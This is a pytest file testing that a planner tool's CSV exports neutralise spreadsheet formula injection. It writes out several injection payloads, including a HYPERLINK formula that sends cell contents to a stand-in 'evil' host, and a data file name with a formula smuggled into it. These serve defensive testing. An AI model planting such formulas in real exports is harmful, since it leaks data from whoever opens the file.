"""Every CSV alplan writes shows user text as text: no cell a spreadsheet evaluates (OWASP CSV injection)."""

import csv

import numpy as np
import pandas as pd
import pytest

from planner.cli import main
from simulations.results.schema import FORMULA_STARTS, to_safe_csv
from simulations.results.store import Store, write_table_atomic

EVIL = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def cells(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


def test_text_cells_and_names_are_neutralised_and_numbers_kept():
    df = pd.DataFrame({"strategy": EVIL, "=cmd": ["ok"] * len(EVIL), "accuracy": -np.arange(len(EVIL), dtype=float)})
    text = to_safe_csv(df)
    back = pd.read_csv(__import__("io").StringIO(text))
    assert list(back.columns) == ["strategy", "'=cmd", "accuracy"]
    assert back["strategy"].tolist() == ["'" + e for e in EVIL]
    assert back["accuracy"].tolist() == df["accuracy"].tolist()  # negative numbers are numbers, not formulas
    assert df["strategy"].tolist() == EVIL  # the caller's frame is not modified


def test_the_table_writer_neutralises(tmp_path):
    path = write_table_atomic(pd.DataFrame({"dataset": EVIL, "n": range(len(EVIL))}), tmp_path / "t.csv")
    assert not any(c.startswith(FORMULA_STARTS) for c in cells(path) if not c.lstrip("-").isdigit())


@pytest.fixture
def evil_data(tmp_path):
    rng = np.random.default_rng(0)
    y = np.arange(120) % 2
    path = tmp_path / '=HYPERLINK("http:x").csv'
    pd.DataFrame({"f1": rng.normal(size=120) + y, "label": y}).to_csv(path, index=False)
    return path


def test_cli_output_names_the_data_file_as_text(tmp_path, evil_data):
    out = tmp_path / "c.csv"
    assert main(["simulate", "--data", str(evil_data), "--strategies", "random", "--seeds", "1",
                 "--initial", "6", "--batch-size", "5", "--rounds", "1", "--out", str(out)]) == 0
    assert set(pd.read_csv(out)["dataset"]) == {"'" + evil_data.name}
    db = tmp_path / "r.db"
    assert main(["simulate", "--data", str(evil_data), "--db", str(db), "--strategies", "random", "--seeds", "1",
                 "--initial", "6", "--batch-size", "5", "--rounds", "1", "--out", str(out)]) == 0
    assert main(["runs", "--db", str(db), "--export", str(tmp_path / "e.csv")]) == 0
    assert set(pd.read_csv(tmp_path / "e.csv")["dataset"]) == {"'" + evil_data.name}
    with Store(db) as store:  # the database itself keeps the name as it is
        assert set(store.curves()["dataset"]) == {evil_data.name}
